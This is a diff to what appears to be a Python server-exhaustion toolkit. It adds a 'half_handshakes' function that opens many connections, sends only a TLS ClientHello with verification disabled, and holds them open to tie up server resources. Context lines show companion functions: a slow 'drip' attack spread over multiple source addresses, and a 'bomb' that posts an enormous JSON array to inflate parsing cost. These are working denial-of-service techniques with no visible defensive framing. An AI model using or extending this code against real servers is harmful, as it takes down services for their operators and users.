@@ -106,6 +106,29 @@ def drip(url, sources, count, seconds, ready=None):
     return opened
 
 
+def half_handshakes(url, source, count, seconds):
+    """Connections that begin TLS and say nothing more. How many there were."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    held = []
+    for _ in range(count):
+        hello = ssl.MemoryBIO()
+        try:
+            context.wrap_bio(ssl.MemoryBIO(), hello).do_handshake()
+        except ssl.SSLWantReadError:
+            pass
+        try:
+            s = socket.create_connection((url.hostname, url.port), timeout=5, source_address=(source, 0))
+            s.sendall(hello.read())
+            held.append(s)
+        except OSError:
+            pass
+    time.sleep(seconds)
+    for s in held:
+        s.close()
+    return len(held)
+
+
 def bomb(url, source, path, size, cookie=None):
     """[0,0,0… of so many bytes: each value costs the server many times its text. The status."""
     body = b"[" + b"0," * (size // 2 - 1) + b"0]"
